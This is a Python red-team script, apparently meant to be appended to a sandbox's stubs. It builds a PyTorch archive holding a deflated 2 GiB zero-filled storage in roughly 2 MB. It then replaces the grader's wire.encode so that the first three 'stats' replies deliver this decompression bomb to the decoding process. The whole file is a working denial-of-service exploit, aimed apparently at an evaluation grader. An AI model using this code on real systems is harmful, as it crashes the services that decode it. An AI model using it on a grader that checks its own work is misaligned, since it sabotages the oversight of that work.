"""Red team attack, appended to the stubs: replaces wire.encode so that a reply carries a deflated 2 GiB storage in a 2 MB frame."""

def _bomb_frame(n_bytes, reply_extra=None):
    import io, pickle, struct, zlib, collections
    import torch, torch._utils

    class _Store:
        pass

    _STORE = _Store()

    class _Tensor:
        def __reduce__(self):
            return (torch._utils._rebuild_tensor_v2,
                    (_STORE, 0, (n_bytes // 4,), (1,), False, collections.OrderedDict()))

    class _P(pickle.Pickler):
        def persistent_id(self, obj):
            return ("storage", torch.FloatStorage, "0", "cpu", n_bytes // 4) if obj is _STORE else None

    body = io.BytesIO()
    reply = {"ok": True, "value": _Tensor()}
    reply.update(reply_extra or {})
    _P(body, protocol=2).dump(reply)

    # n_bytes of zeros as one deflate stream: a 1 MiB block flushed to a byte boundary, repeated
    chunk = bytes(1 << 20)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    count = n_bytes >> 20
    tail = zlib.compressobj(9, zlib.DEFLATED, -15)
    deflated = piece * count + tail.compress(b"") + tail.flush()
    crc = 0
    for _ in range(count):
        crc = zlib.crc32(chunk, crc)

    entries = [("archive/data.pkl", body.getvalue(), 0, zlib.crc32(body.getvalue()), len(body.getvalue())),
               ("archive/byteorder", b"little", 0, zlib.crc32(b"little"), 6),
               ("archive/version", b"3\n", 0, zlib.crc32(b"3\n"), 2),
               ("archive/data/0", deflated, 8, crc, n_bytes)]
    out, central = io.BytesIO(), io.BytesIO()
    for name, data, method, crc32, size in entries:
        offset = out.tell()
        raw = name.encode()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, method, 0, 0, crc32, len(data), size, len(raw), 0))
        out.write(raw + data)
        central.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, 0, method, 0, 0, crc32, len(data),
                                  size, len(raw), 0, 0, 0, 0, 0, offset) + raw)
    start = out.tell()
    out.write(central.getvalue())
    out.write(struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, len(entries), len(entries), len(central.getvalue()),
                          start, 0))
    return out.getvalue()

import sys as _sys

_wire = _sys.modules["grader.sandbox.wire"]

_FRAME = _bomb_frame(2 << 30)        # about 2 MB on the wire, 2 GiB in the process that decodes it

_real_encode = _wire.encode

_SENT = [0]

def _encode(message):
    if isinstance(message, dict) and "stats" in message and _SENT[0] < 3:
        _SENT[0] += 1
        return _FRAME
    return _real_encode(message)

_wire.encode = _encode
